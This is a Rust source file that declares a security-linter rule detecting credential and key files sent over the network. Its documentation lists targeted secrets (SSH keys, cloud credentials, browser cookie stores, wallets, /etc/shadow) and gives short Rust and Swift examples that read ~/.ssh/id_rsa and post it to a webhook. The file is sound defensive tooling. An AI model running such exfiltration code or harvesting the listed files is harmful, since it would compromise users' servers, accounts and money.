use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// The contents of a credential or key file reaching a network sink: SSH keys
    /// (`~/.ssh/`, `id_rsa`, `id_ed25519`), cloud credentials (`~/.aws/credentials`,
    /// `.docker/config.json`), `.git-credentials`, `.npmrc`, browser profile stores
    /// (`Login Data`, `Cookies`, `key4.db`), crypto wallets (`wallet.dat`, Exodus,
    /// MetaMask), `/etc/passwd` and `/etc/shadow`, and files found by walking the
    /// file system for keys (`*.pem`, `id_*`).
    ///
    /// Reading these files for local use (an SSH client loading its key) is not reported;
    /// only their contents reaching the network are.
    ///
    /// ## Why it matters
    /// These files are the keys to the user's servers, cloud accounts, source code and
    /// money. Uploading them is what info-stealers and malicious packages do; once sent,
    /// every key must be considered compromised.
    ///
    /// ## Example
    /// ```rust
    /// let key = std::fs::read_to_string(home.join(".ssh/id_rsa"))?;
    /// reqwest::blocking::Client::new().post(WEBHOOK).body(key).send()?;
    /// ```
    /// ```swift
    /// let key = try String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa")
    /// request.httpBody = key.data(using: .utf8)
    /// ```
    ///
    /// ## Instead
    /// Never send private keys or credential stores anywhere. Tools that need a key use it
    /// locally (an SSH agent, a signing call); servers authenticate with the public half.
    ///
    /// ## References
    /// - CWE-201: Insertion of Sensitive Information Into Sent Data
    /// - CWE-512: Spyware
    /// - MITRE ATT&CK T1552.004 (Private Keys), T1555.003 (Credentials from Web Browsers)
    pub static RULE = {
        id: "data-upload/key-file-to-network",
        summary: "A credential or key file is sent over the network",
        cwe: [201, 512],
        severity: High,
        confidence: High,
        languages: [Rust, Swift],
    }
}
